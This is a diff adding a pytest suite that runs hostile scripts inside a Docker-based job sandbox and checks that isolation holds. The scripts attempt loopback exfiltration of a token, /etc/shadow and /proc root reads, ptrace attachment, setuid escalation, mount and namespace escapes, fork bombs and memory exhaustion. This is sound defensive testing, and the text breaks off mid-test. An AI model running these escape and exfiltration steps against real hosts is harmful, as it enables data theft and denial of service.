@@ -1,0 +1,910 @@
+"""Hostile jobs against the Docker runtime: each case is a script that tries to break out.
+
+Every case runs the real runtime image through :class:`DockerRuntime` with the script mounted as
+``/code/attack.py``, and checks what actually happened on the host: a listener that received
+nothing, a file that did not change, the state and reason the runtime reported. Where a case
+could pass for the wrong reason (a listener that was never reachable), a control run gives the
+same script the host's network and shows it does get through.
+
+The script reports on its last stdout line (``REPORT {json}``): stdout still works when
+``/output`` is full. Network rule of this workplace: only loopback addresses are ever targeted.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import hashlib
+import json
+import os
+import secrets
+import socket
+import stat
+import subprocess
+import sys
+import textwrap
+import threading
+import time
+import tracemalloc
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from enclave import _mounts
+from enclave._collect import OutputRefused, walk_output
+from enclave.runtime import (
+    JOB_LABEL,
+    MANAGED_LABEL,
+    ContainerSpec,
+    ContainerStatus,
+    DockerRuntime,
+    Handle,
+    RunState,
+)
+from trainers.contract import JOB_USER
+
+pytestmark = pytest.mark.docker
+
+MiB = 1024**2
+SECRET = b"PATIENT-RECORD-7f3a: the data that must never leave\n"
+
+PRELUDE = """
+import errno, json, os, socket, sys, time
+def report(**kw):
+    sys.stdout.flush()
+    print("REPORT " + json.dumps(kw), flush=True)
+def attempt(fn, *a, **k):
+    try:
+        fn(*a, **k)
+        return "ok"
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e.errno))
+"""
+
+
+@dataclass
+class Ran:
+    status: ContainerStatus
+    logs: bytes
+    output: Path
+    handle: Handle
+
+    @property
+    def container_id(self) -> str:
+        return self.handle.id
+
+    @property
+    def report(self) -> dict[str, Any]:
+        lines = [ln for ln in self.logs.splitlines() if ln.startswith(b"REPORT ")]
+        assert lines, f"the attack printed no report; logs end: {self.logs[-2000:]!r}"
+        return dict(json.loads(lines[-1][len(b"REPORT ") :]))
+
+
+@pytest.fixture(scope="module")
+def runtime(docker_client: Any) -> DockerRuntime:
+    return DockerRuntime(docker_client)
+
+
+@pytest.fixture
+def site(tmp_path: Path) -> dict[str, Path]:
+    """Host directories for one job: a dataset, a base model and the code, all left writable by
+    anyone on the host side so that only the read-only mount can stop a write."""
+    data = tmp_path / "data-ds"
+    model = tmp_path / "model"
+    code = tmp_path / "code"
+    for d in (data, model, code):
+        d.mkdir()
+        d.chmod(0o777)
+    (data / "secret.txt").write_bytes(SECRET)
+    (data / "secret.txt").chmod(0o666)
+    (model / "config.json").write_text('{"model_type": "tiny"}')
+    (model / "config.json").chmod(0o666)
+    (code / "helper.py").write_text("VALUE = 1\n")
+    (code / "helper.py").chmod(0o666)
+    return {"data": data, "model": model, "code": code, "root": tmp_path}
+
+
+def _tree_digest(root: Path) -> str:
+    h = hashlib.sha256()
+    for p in sorted(root.rglob("*")):
+        st = p.lstat()
+        h.update(f"{p.relative_to(root)}|{st.st_mode}|{st.st_size}|{st.st_mtime_ns}\n".encode())
+        if p.is_file() and not p.is_symlink():
+            h.update(p.read_bytes())
+    return h.hexdigest()
+
+
+@contextlib.contextmanager
+def attack(
+    runtime: DockerRuntime,
+    image: str,
+    site: dict[str, Path],
+    labels: dict[str, str],
+    script: str,
+    *,
+    env: dict[str, str] | None = None,
+    timeout_s: float = 60,
+    memory_bytes: int = 256 * MiB,
+    pids: int = 64,
+    output_bytes: int = 16 * MiB,
+    tmp_bytes: int = 16 * MiB,
+    log_bytes: int = 4 * MiB,
+    max_log_bytes: int = 1 * MiB,
+) -> Iterator[Ran]:
+    """Run ``script`` as a job with every limit and mount of a real run; yield what happened
+    while its output mount still exists."""
+    (site["code"] / "attack.py").write_text(PRELUDE + textwrap.dedent(script))
+    (site["code"] / "attack.py").chmod(0o644)
+    job_id = f"hostile-{secrets.token_hex(4)}"
+    with _mounts.tmpfs(
+        site["root"] / "output", size_bytes=output_bytes, owner=(10001, 10001)
+    ) as out:
+        spec = ContainerSpec(
+            image=image,
+            job_id=job_id,
+            output_dir=out,
+            memory_bytes=memory_bytes,
+            cpus=1.0,
+            pids=pids,
+            tmp_bytes=tmp_bytes,
+            timeout_s=timeout_s,
+            env=env or {},
+            read_only_mounts={
+                site["data"]: "/data/ds",
+                site["model"]: "/model/base",
+                site["code"]: "/code",
+            },
+            labels=labels,
+            command=("python3", "/code/attack.py"),
+            log_bytes=log_bytes,
+        )
+        handle = runtime.prepare(spec)
+        try:
+            runtime.start(handle)
+            status = runtime.wait(handle, timeout_s=timeout_s + 30)
+            logs = runtime.logs(handle, max_bytes=max_log_bytes)
+            yield Ran(status, logs, out, handle)
+        finally:
+            runtime.cleanup(handle)
+
+
+def control_run(
+    docker_client: Any,
+    image: str,
+    site: dict[str, Path],
+    labels: dict[str, str],
+    script: str,
+    *,
+    env: dict[str, str],
+) -> dict[str, Any]:
+    """The same script with the host's network namespace (docker SDK directly): proves the
+    listener is reachable, so the isolated run's silence means something."""
+    from docker.types import Mount
+
+    (site["code"] / "attack.py").write_text(PRELUDE + textwrap.dedent(script))
+    (site["code"] / "attack.py").chmod(0o644)
+    c = docker_client.containers.create(
+        image,
+        entrypoint=["python3", "/code/attack.py"],
+        network_mode="host",
+        user=JOB_USER,
+        environment=env,
+        mounts=[Mount("/code", str(site["code"]), type="bind", read_only=True)],
+        labels=labels,
+    )
+    try:
+        c.start()
+        c.wait(timeout=60)
+        logs = c.logs()
+    finally:
+        c.remove(force=True)
+    lines = [ln for ln in logs.splitlines() if ln.startswith(b"REPORT ")]
+    assert lines, logs
+    return dict(json.loads(lines[-1][len(b"REPORT ") :]))
+
+
+class Listener:
+    """A host-side listener on 127.0.0.1 (TCP, UDP or an abstract unix socket) that records
+    every connection or datagram it gets."""
+
+    def __init__(self, kind: str) -> None:
+        self.kind = kind
+        self.received: list[bytes] = []
+        if kind == "tcp":
+            self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            self.sock.bind(("127.0.0.1", 0))
+            self.sock.listen(8)
+        elif kind == "udp":
+            self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            self.sock.bind(("127.0.0.1", 0))
+        else:
+            self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            self.name = f"\0sealroom-test-{secrets.token_hex(6)}"
+            self.sock.bind(self.name)
+            self.sock.listen(8)
+        self.sock.settimeout(0.2)
+        self._stop = threading.Event()
+        self._t = threading.Thread(target=self._loop, daemon=True)
+        self._t.start()
+
+    @property
+    def port(self) -> int:
+        return int(self.sock.getsockname()[1])
+
+    def _loop(self) -> None:
+        while not self._stop.is_set():
+            try:
+                if self.kind == "udp":
+                    data, _ = self.sock.recvfrom(65536)
+                    self.received.append(data)
+                else:
+                    conn, _ = self.sock.accept()
+                    conn.settimeout(1)
+                    try:
+                        self.received.append(conn.recv(65536) or b"<connected>")
+                    except OSError:
+                        self.received.append(b"<connected>")
+                    conn.close()
+            except (TimeoutError, OSError):
+                continue
+
+    def close(self) -> list[bytes]:
+        time.sleep(0.5)  # anything in flight lands
+        self._stop.set()
+        self._t.join()
+        self.sock.close()
+        return self.received
+
+
+# -- network -------------------------------------------------------------------------------
+
+TCP_SCRIPT = """
+    s = socket.socket(); s.settimeout(3)
+    r = attempt(s.connect, ("127.0.0.1", int(os.environ["PORT"])))
+    if r == "ok":
+        s.sendall(b"exfil " + os.environ.get("TOKEN", "").encode())
+    report(connect=r)
+"""
+
+
+def test_tcp_to_the_hosts_loopback_reaches_nothing(runtime, runtime_image, site, test_labels):
+    lst = Listener("tcp")
+    token = secrets.token_hex(8)
+    try:
+        env = {"PORT": str(lst.port), "TOKEN": token}
+        with attack(runtime, runtime_image, site, test_labels, TCP_SCRIPT, env=env) as ran:
+            report = ran.report
+    finally:
+        got = lst.close()
+    assert report["connect"] == "ECONNREFUSED"  # its own loopback, where nothing listens
+    assert got == []
+
+
+def test_tcp_control_the_same_script_connects_with_the_hosts_network(
+    docker_client, runtime_image, site, test_labels
+):
+    lst = Listener("tcp")
+    token = secrets.token_hex(8)
+    try:
+        env = {"PORT": str(lst.port), "TOKEN": token}
+        report = control_run(docker_client, runtime_image, site, test_labels, TCP_SCRIPT, env=env)
+    finally:
+        got = lst.close()
+    assert report["connect"] == "ok"
+    assert got == [f"exfil {token}".encode()]
+
+
+UDP_SCRIPT = """
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    to = ("127.0.0.1", int(os.environ["PORT"]))
+    r = attempt(s.sendto, b"exfil " + os.environ["TOKEN"].encode(), to)
+    report(send=r)
+"""
+
+
+def test_udp_to_the_hosts_loopback_reaches_nothing(runtime, runtime_image, site, test_labels):
+    lst = Listener("udp")
+    try:
+        env = {"PORT": str(lst.port), "TOKEN": secrets.token_hex(8)}
+        with attack(runtime, runtime_image, site, test_labels, UDP_SCRIPT, env=env) as ran:
+            report = ran.report
+    finally:
+        got = lst.close()
+    assert report["send"] == "ok"  # the datagram goes to the container's own `lo`, and no further
+    assert got == []
+
+
+def test_udp_control_the_same_script_arrives_with_the_hosts_network(
+    docker_client, runtime_image, site, test_labels
+):
+    lst = Listener("udp")
+    token = secrets.token_hex(8)
+    try:
+        env = {"PORT": str(lst.port), "TOKEN": token}
+        report = control_run(docker_client, runtime_image, site, test_labels, UDP_SCRIPT, env=env)
+    finally:
+        got = lst.close()
+    assert report["send"] == "ok"
+    assert got == [f"exfil {token}".encode()]
+
+
+ABSTRACT_SCRIPT = """
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(3)
+    r = attempt(s.connect, "\\0" + os.environ["NAME"])
+    if r == "ok":
+        s.sendall(b"exfil")
+    report(connect=r)
+"""
+
+
+def test_abstract_unix_socket_of_the_host_is_out_of_reach(
+    runtime, runtime_image, site, test_labels, docker_client
+):
+    # Abstract unix sockets belong to the network namespace (the containerd-shim escape,
+    # CVE-2020-15257, went through one). Control first: with the host's namespace it connects.
+    lst = Listener("abstract")
+    try:
+        env = {"NAME": lst.name[1:]}
+        control = control_run(
+            docker_client, runtime_image, site, test_labels, ABSTRACT_SCRIPT, env=env
+        )
+        n_control = len(lst.received)
+        with attack(runtime, runtime_image, site, test_labels, ABSTRACT_SCRIPT, env=env) as ran:
+            report = ran.report
+    finally:
+        got = lst.close()
+    assert control["connect"] == "ok" and n_control == 1
+    assert report["connect"] == "ECONNREFUSED"
+    assert len(got) == 1  # only the control's connection
+
+
+def test_raw_and_packet_sockets_are_refused(runtime, runtime_image, site, test_labels):
+    script = """
+    raw = attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    packet = attempt(socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
+    report(raw=raw, packet=packet)
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        assert ran.report == {"raw": "EPERM", "packet": "EPERM"}
+
+
+def test_dns_resolution_fails_and_names_no_server_outside(
+    runtime, runtime_image, site, test_labels
+):
+    script = """
+    ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
+    try:
+        socket.getaddrinfo("sealroom-exfil-probe.example", 443)
+        lookup = "resolved"
+    except socket.gaierror as e:
+        lookup = f"gaierror {e.errno}"
+    report(nameservers=ns, lookup=lookup)
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        report = ran.report
+    assert report["lookup"].startswith("gaierror")
+    assert report["nameservers"] and all(n.startswith("127.") for n in report["nameservers"])
+
+
+def test_only_loopback_interface_exists(runtime, runtime_image, site, test_labels):
+    script = """
+    report(sys_class_net=sorted(os.listdir("/sys/class/net")),
+           ifaces=sorted(n for _, n in socket.if_nameindex()),
+           routes=open("/proc/net/route").read().splitlines()[1:])
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        assert ran.report == {"sys_class_net": ["lo"], "ifaces": ["lo"], "routes": []}
+
+
+# -- host files and escapes ---------------------------------------------------------------
+
+
+def test_shadow_is_not_the_hosts_and_not_readable(runtime, runtime_image, site, test_labels):
+    script = """
+    report(shadow=attempt(open, "/etc/shadow"),
+           via_proc=attempt(open, "/proc/1/root/etc/shadow"),
+           uid=os.getuid())
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        report = ran.report
+        logs = ran.logs
+    assert report == {"shadow": "EACCES", "via_proc": "EACCES", "uid": 10001}
+    host_hashes = [
+        ln.split(":")[1]
+        for ln in Path("/etc/shadow").read_text().splitlines()
+        if ln.count(":") > 2 and len(ln.split(":")[1]) > 3
+    ]
+    assert not any(h.encode() in logs for h in host_hashes)
+
+
+def test_proc_1_root_and_other_proc_roots_do_not_reach_the_host(
+    runtime, runtime_image, site, test_labels
+):
+    marker_dir = Path("/var/tmp") / f"sealroom-marker-{secrets.token_hex(4)}"
+    marker_dir.mkdir(mode=0o755)
+    token = secrets.token_hex(16)
+    marker = marker_dir / "marker.txt"
+    marker.write_text(token)
+    marker.chmod(0o644)
+    script = """
+    path = os.environ["MARKER"]
+    found = []
+    pids = [p for p in os.listdir("/proc") if p.isdigit()]
+    for cand in [path, "/proc/1/root" + path] + [f"/proc/{p}/root{path}" for p in pids]:
+        try:
+            found.append(open(cand).read())
+        except OSError:
+            pass
+    report(found=found, pids=pids, pid1=open("/proc/1/cmdline").read().split("\\0")[:2])
+    """
+    try:
+        env = {"MARKER": str(marker)}
+        with attack(runtime, runtime_image, site, test_labels, script, env=env) as ran:
+            report = ran.report
+            logs = ran.logs
+    finally:
+        marker.unlink()
+        marker_dir.rmdir()
+    assert report["found"] == []
+    assert token.encode() not in logs
+    assert report["pid1"] == ["python3", "/code/attack.py"]  # PID 1 is the job: no host pids
+    assert report["pids"] == ["1"]
+
+
+def test_no_docker_socket_nor_any_socket_in_the_filesystem(
+    runtime, runtime_image, site, test_labels
+):
+    script = """
+    import stat
+    sockets = []
+    for top, dirs, files in os.walk("/"):
+        if top in ("/proc", "/sys"):
+            dirs[:] = []
+            continue
+        for n in dirs + files:
+            try:
+                if stat.S_ISSOCK(os.lstat(os.path.join(top, n)).st_mode):
+                    sockets.append(os.path.join(top, n))
+            except OSError:
+                pass
+    known = {p: os.path.lexists(p) for p in ("/var/run/docker.sock", "/run/docker.sock",
+             "/run/containerd/containerd.sock")}
+    report(sockets=sockets, known=known)
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        report = ran.report
+    assert report["sockets"] == []
+    assert not any(report["known"].values())
+
+
+def test_read_only_mounts_and_root_cannot_be_written(runtime, runtime_image, site, test_labels):
+    before = {k: _tree_digest(site[k]) for k in ("data", "model")}
+    script = """
+    def write_new(p):
+        with open(p, "w") as f: f.write("x")
+    def overwrite(p):
+        with open(p, "r+b") as f: f.write(b"tampered")
+    r = {
+        "data_new": attempt(write_new, "/data/ds/new.txt"),
+        "data_overwrite": attempt(overwrite, "/data/ds/secret.txt"),
+        "data_unlink": attempt(os.unlink, "/data/ds/secret.txt"),
+        "data_chmod": attempt(os.chmod, "/data/ds/secret.txt", 0o777),
+        "data_touch": attempt(os.utime, "/data/ds/secret.txt", (0, 0)),
+        "code_new": attempt(write_new, "/code/evil.py"),
+        "code_overwrite": attempt(overwrite, "/code/helper.py"),
+        "model_overwrite": attempt(overwrite, "/model/base/config.json"),
+        "model_mkdir": attempt(os.mkdir, "/model/base/extra"),
+        "root_new": attempt(write_new, "/evil"),
+        "site_packages": attempt(write_new, "/opt/sealroom/site/evil.py"),
+    }
+    report(**r)
+    """
+    code_before = (PRELUDE + textwrap.dedent(script)).encode()
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        report = ran.report
+    assert report == dict.fromkeys(report, "EROFS")
+    assert len(report) == 11
+    assert {k: _tree_digest(site[k]) for k in ("data", "model")} == before
+    assert sorted(p.name for p in site["code"].iterdir()) == ["attack.py", "helper.py"]
+    assert (site["code"] / "helper.py").read_text() == "VALUE = 1\n"
+    assert (site["code"] / "attack.py").read_bytes() == code_before
+
+
+def test_only_output_tmp_and_shm_are_writable(runtime, runtime_image, site, test_labels):
+    script = """
+    mounts = []
+    for line in open("/proc/self/mountinfo"):
+        left, _, right = line.partition(" - ")
+        mounts.append((left.split()[4], left.split()[5]))
+    writable = []
+    for path, opts in mounts:
+        probe = os.path.join(path, f".probe-{os.getpid()}")
+        try:
+            fd = os.open(probe, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
+        except OSError:
+            continue
+        os.close(fd); os.unlink(probe)
+        writable.append((path, sorted(set(opts.split(",")) & {"nosuid", "nodev", "noexec"})))
+    report(writable=sorted(writable))
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        report = ran.report
+    flags = ["nodev", "noexec", "nosuid"]
+    assert report["writable"] == [["/dev/shm", flags], ["/output", flags], ["/tmp", flags]]
+
+
+# -- links and special files planted in /output --------------------------------------------
+
+
+def _assert_no_data_bytes(out: Path) -> None:
+    """Read every regular file under ``out`` the way the host must: lstat, never follow."""
+    for top, dirs, files in os.walk(out, followlinks=False):
+        for name in files + dirs:
+            p = os.path.join(top, name)
+            st = os.lstat(p)
+            if stat.S_ISREG(st.st_mode):
+                fd = os.open(p, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
+                try:
+                    assert SECRET not in os.read(fd, 1 << 20)
+                finally:
+                    os.close(fd)
+
+
+def test_symlinks_into_data_are_refused_and_never_followed(
+    runtime, runtime_image, site, test_labels
+):
+    script = """
+    os.makedirs("/output/weights")
+    os.symlink("/data/ds/secret.txt", "/output/weights/model.safetensors")
+    os.symlink("/data/ds", "/output/datadir")
+    os.symlink("/data/ds/secret.txt", "/output/metrics.json")
+    report(read_inside=open("/output/metrics.json").read() != "")
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        assert ran.status.state is RunState.EXITED and ran.status.exit_code == 0
+        assert ran.report == {"read_inside": True}  # the links work inside the container...
+        _assert_no_data_bytes(ran.output)  # ...but the host side reads no data bytes
+        with pytest.raises(OutputRefused, match="symbolic link") as info:
+            walk_output(ran.output)
+        assert "model.safetensors" not in str(info.value)  # names never echoed
+        assert len(info.value.relpaths) == 3
+
+
+def test_hardlinks_into_data_fail_and_hardlinks_in_output_are_refused(
+    runtime, runtime_image, site, test_labels
+):
+    script = """
+    fd = os.open("/data/ds/secret.txt", os.O_RDONLY)
+    direct = attempt(os.link, "/data/ds/secret.txt", "/output/h1")
+    via_fd = attempt(os.link, f"/proc/self/fd/{fd}", "/output/h2", follow_symlinks=True)
+    with open("/output/a", "w") as f: f.write("x")
+    inside = attempt(os.link, "/output/a", "/output/b")
+    report(direct=direct, via_fd=via_fd, inside=inside)
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        assert ran.report == {"direct": "EXDEV", "via_fd": "EXDEV", "inside": "ok"}
+        _assert_no_data_bytes(ran.output)
+        with pytest.raises(OutputRefused, match="2 hard links"):
+            walk_output(ran.output)
+    assert (site["data"] / "secret.txt").stat().st_nlink == 1
+
+
+def test_proc_self_fd_cannot_reopen_data_for_writing(runtime, runtime_image, site, test_labels):
+    before = _tree_digest(site["data"])
+    script = """
+    fd = os.open("/data/ds/secret.txt", os.O_RDONLY)
+    reopen = attempt(os.open, f"/proc/self/fd/{fd}", os.O_WRONLY)
+    dfd = os.open("/data/ds", os.O_PATH | os.O_DIRECTORY)
+    at = attempt(os.open, "planted.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=dfd)
+    via_root = attempt(os.open, "/proc/self/root/data/ds/secret.txt", os.O_WRONLY)
+    report(reopen=reopen, at=at, via_root=via_root)
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        assert ran.report == {"reopen": "EROFS", "at": "EROFS", "via_root": "EROFS"}
+    assert _tree_digest(site["data"]) == before
+
+
+def test_device_nodes_cannot_be_made_and_fifos_sockets_are_refused(
+    runtime, runtime_image, site, test_labels
+):
+    script = """
+    import stat
+    dev = attempt(os.mknod, "/output/mem", stat.S_IFCHR | 0o666, os.makedev(1, 1))
+    fifo = attempt(os.mkfifo, "/output/metrics.json")
+    s = socket.socket(socket.AF_UNIX)
+    sock = attempt(s.bind, "/output/sock")
+    report(dev=dev, fifo=fifo, sock=sock)
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        assert ran.report == {"dev": "EPERM", "fifo": "ok", "sock": "ok"}
+        with pytest.raises(OutputRefused) as info:
+            walk_output(ran.output)  # returns at once: nothing is opened, so no FIFO blocks
+        assert "a FIFO" in str(info.value) and "a socket" in str(info.value)
+
+
+# -- privileges ------------------------------------------------------------------------------
+
+
+def test_setuid_copy_does_not_escalate(runtime, runtime_image, site, test_labels):
+    script = """
+    import shutil, stat, subprocess
+    results = {}
+    for d in ("/output", "/tmp", "/dev/shm"):
+        p = os.path.join(d, "py")
+        shutil.copy("/usr/bin/python3", p)
+        os.chmod(p, 0o4755)
+        try:
+            out = subprocess.run([p, "-c", "import os; print(os.geteuid())"],
+                                 capture_output=True, text=True)
+            results[d] = out.stdout.strip() or f"rc={out.returncode}"
+        except OSError as e:
+            results[d] = errno.errorcode[e.errno]
+    setuid_files = []
+    for top, dirs, files in os.walk("/"):
+        if top in ("/proc", "/sys", "/output", "/tmp", "/dev/shm"):
+            dirs[:] = []
+            continue
+        for n in files:
+            try:
+                if os.lstat(os.path.join(top, n)).st_mode & (stat.S_ISUID | stat.S_ISGID):
+                    setuid_files.append(os.path.join(top, n))
+            except OSError:
+                pass
+    report(exec=results, setuid_files=setuid_files, setuid0=attempt(os.setuid, 0),
+           euid=os.geteuid())
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        report = ran.report
+    # Nothing written can be executed at all (noexec everywhere writable)...
+    assert report["exec"] == {"/output": "EACCES", "/tmp": "EACCES", "/dev/shm": "EACCES"}
+    # ...and the image has no setuid or setgid file to borrow.
+    assert report["setuid_files"] == []
+    assert report["setuid0"] == "EPERM" and report["euid"] == 10001
+
+
+def test_no_capabilities_no_new_privileges_seccomp_on(runtime, runtime_image, site, test_labels):
+    script = """
+    st = dict(l.split(":", 1) for l in open("/proc/self/status").read().splitlines())
+    with open("/output/f", "w") as f: f.write("x")
+    report(**{k: st[k].strip() for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb",
+                                          "NoNewPrivs", "Seccomp", "Uid", "Gid", "Groups")},
+           chown=attempt(os.chown, "/output/f", 0, 0),
+           nice=attempt(os.setpriority, os.PRIO_PROCESS, 0, -5))
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        r = ran.report
+    assert {k: r[k] for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")} == dict.fromkeys(
+        ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"), "0000000000000000"
+    )
+    assert r["NoNewPrivs"] == "1" and r["Seccomp"] == "2"
+    assert r["Uid"].split() == ["10001"] * 4 and r["Gid"].split() == ["10001"] * 4
+    assert r["Groups"] == "10001"
+    assert r["chown"] == "EPERM" and r["nice"] == "EACCES"
+
+
+def test_mount_and_unmount_syscalls_are_refused(runtime, runtime_image, site, test_labels):
+    script = """
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    def call(fn, *args):
+        if fn(*args) == 0:
+            return "ok"
+        return errno.errorcode[ctypes.get_errno()]
+    os.mkdir("/tmp/m")
+    report(mount=call(libc.mount, b"none", b"/tmp/m", b"tmpfs", 0, None),
+           bind=call(libc.mount, b"/", b"/tmp/m", None, 4096, None),
+           umount_output=call(libc.umount2, b"/output", 2),
+           umount_data=call(libc.umount2, b"/data/ds", 2))
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        assert ran.report == dict.fromkeys(
+            ("mount", "bind", "umount_output", "umount_data"), "EPERM"
+        )
+
+
+def test_user_and_mount_namespaces_cannot_be_entered(runtime, runtime_image, site, test_labels):
+    script = """
+    import ctypes, subprocess
+    libc = ctypes.CDLL(None, use_errno=True)
+    def unshare(flags):
+        return "ok" if libc.unshare(flags) == 0 else errno.errorcode[ctypes.get_errno()]
+    cli = subprocess.run(["unshare", "-r", "id", "-u"], capture_output=True, text=True)
+    report(newuser=unshare(0x10000000), newns=unshare(0x00020000), newnet=unshare(0x40000000),
+           cli_rc=cli.returncode, cli_out=cli.stdout.strip())
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        r = ran.report
+    assert r["newuser"] == "EPERM" and r["newns"] == "EPERM" and r["newnet"] == "EPERM"
+    assert r["cli_rc"] != 0 and r["cli_out"] != "0"
+
+
+def test_host_processes_cannot_be_traced_or_read(runtime, runtime_image, site, test_labels):
+    token = secrets.token_hex(16)
+    victim = subprocess.Popen(
+        [sys.executable, "-c", "import time; time.sleep(120)"],
+        env={**os.environ, "SEALROOM_HOST_SECRET": token},
+    )
+    script = """
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+    pid = int(os.environ["VICTIM"])
+    r = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
+    attach = "ok" if r == 0 else errno.errorcode[ctypes.get_errno()]
+    leaked = []
+    for p in os.listdir("/proc"):
+        if p.isdigit():
+            try:
+                leaked.append(open(f"/proc/{p}/environ", "rb").read().decode(errors="replace"))
+            except OSError:
+                pass
+    report(attach=attach, environ=attempt(open, f"/proc/{pid}/environ"), leaked=leaked)
+    """
+    try:
+        env = {"VICTIM": str(victim.pid)}
+        with attack(runtime, runtime_image, site, test_labels, script, env=env) as ran:
+            r = ran.report
+            logs = ran.logs
+        assert victim.poll() is None  # still running, untouched
+    finally:
+        victim.kill()
+        victim.wait()
+    assert r["attach"] == "ESRCH" and r["environ"] == "ENOENT"
+    assert token.encode() not in logs
+    assert all("SEALROOM_HOST_SECRET" not in e for e in r["leaked"])
+
+
+# -- resources -------------------------------------------------------------------------------
+
+
+def test_fork_bomb_hits_the_pids_limit_and_the_host_is_fine(
+    runtime, runtime_image, site, test_labels
+):
+    script = """
+    forks, err, me = 0, None, os.getpid()
+    while True:
+        try:
+            pid = os.fork()
+        except OSError as e:
+            err = errno.errorcode[e.errno]
+            break
+        if pid == 0:
+            forks = 0  # every child bombs on too
+            continue
+        forks += 1
+    if os.getpid() == me:
+        report(forks=forks, err=err)
+        os._exit(3)
+    time.sleep(3600)
+    """
+    with attack(runtime, runtime_image, site, test_labels, script, pids=32, timeout_s=60) as ran:
+        r = ran.report
+        status = ran.status
+    assert r["err"] == "EAGAIN" and r["forks"] < 32
+    assert status.state is RunState.EXITED and status.exit_code == 3
+    # The host still forks.
+    assert subprocess.run(["true"], check=False).returncode == 0
+
+
+def test_memory_hog_is_oom_killed_and_reported(runtime, runtime_image, site, test_labels):
+    script = """
+    hog = []
+    print("start", flush=True)
+    while True:
+        hog.append(b"\\x01" * (8 << 20))  # written, so the pages are real
+    """
+    with attack(runtime, runtime_image, site, test_labels, script, memory_bytes=96 * MiB) as ran:
+        status = ran.status
+    assert status.state is RunState.KILLED_OOM
+    assert status.oom_killed and status.exit_code == 137
+    assert "memory limit" in status.reason
+
+
+def test_filling_output_hits_enospc_and_stays_in_memory(runtime, runtime_image, site, test_labels):
+    script = """
+    written = 0
+    try:
+        with open("/output/fill", "wb") as f:
+            while True:
+                f.write(b"\\0" * (1 << 20)); f.flush(); os.fsync(f.fileno())
+                written += 1 << 20
+    except OSError as e:
+        report(err=errno.errorcode[e.errno], written=written)
+        sys.exit(1)
+    """
+    cap = 8 * MiB
+    with attack(runtime, runtime_image, site, test_labels, script, output_bytes=cap) as ran:
+        r = ran.report
+        status = ran.status
+        mount = next(m for m in _mounts.mount_table() if m.path == ran.output)
+        size = (ran.output / "fill").stat().st_size
+    assert r["err"] == "ENOSPC" and r["written"] <= cap
+    assert status.state is RunState.EXITED and status.exit_code == 1
+    assert mount.fstype == "tmpfs" and size <= cap  # the bytes went to capped memory, not disk
+
+
+def test_filling_tmp_hits_enospc(runtime, runtime_image, site, test_labels):
+    script = """
+    written = 0
+    try:
+        with open("/tmp/fill", "wb") as f:
+            while True:
+                f.write(b"\\0" * (1 << 20)); f.flush()
+                written += 1 << 20
+    except OSError as e:
+        report(err=errno.errorcode[e.errno], written=written)
+        sys.exit(1)
+    """
+    with attack(runtime, runtime_image, site, test_labels, script, tmp_bytes=8 * MiB) as ran:
+        r = ran.report
+        assert ran.status.exit_code == 1
+    assert r["err"] == "ENOSPC" and r["written"] <= 8 * MiB
+
+
+def test_endless_loop_is_killed_at_the_timeout(
+    runtime, runtime_image, site, test_labels, docker_client
+):
+    script = """
+    print("spinning", flush=True)
+    while True:
+        pass
+    """
+    with attack(runtime, runtime_image, site, test_labels, script, timeout_s=2) as ran:
+        status = ran.status
+        state = docker_client.api.inspect_container(ran.container_id)["State"]
+        assert b"spinning" in ran.logs
+    assert status.state is RunState.KILLED_TIMEOUT
+    assert "timeout" in status.reason and status.exit_code == 137
+    assert state["Running"] is False
+
+
+def test_stdout_flood_is_capped_on_disk_and_in_the_agent(
+    runtime, runtime_image, site, test_labels, docker_client
+):
+    script = """
+    chunk = (b"A" * 1023 + b"\\n") * 1024
+    for _ in range(48):
+        sys.stdout.buffer.write(chunk)
+    sys.stdout.buffer.write(b"THE-END\\n")
+    sys.stdout.flush()
+    """
+    log_cap = 1 * MiB
+    with attack(
+        runtime, runtime_image, site, test_labels, script, log_bytes=log_cap, max_log_bytes=4096
+    ) as ran:
+        assert ran.status.state is RunState.EXITED and ran.status.exit_code == 0
+        log_path = docker_client.api.inspect_container(ran.container_id)["LogPath"]
+        on_disk = os.path.getsize(log_path)
+        tracemalloc.start()
+        logs = runtime.logs(ran.handle, max_bytes=4096)
+        _, peak = tracemalloc.get_traced_memory()
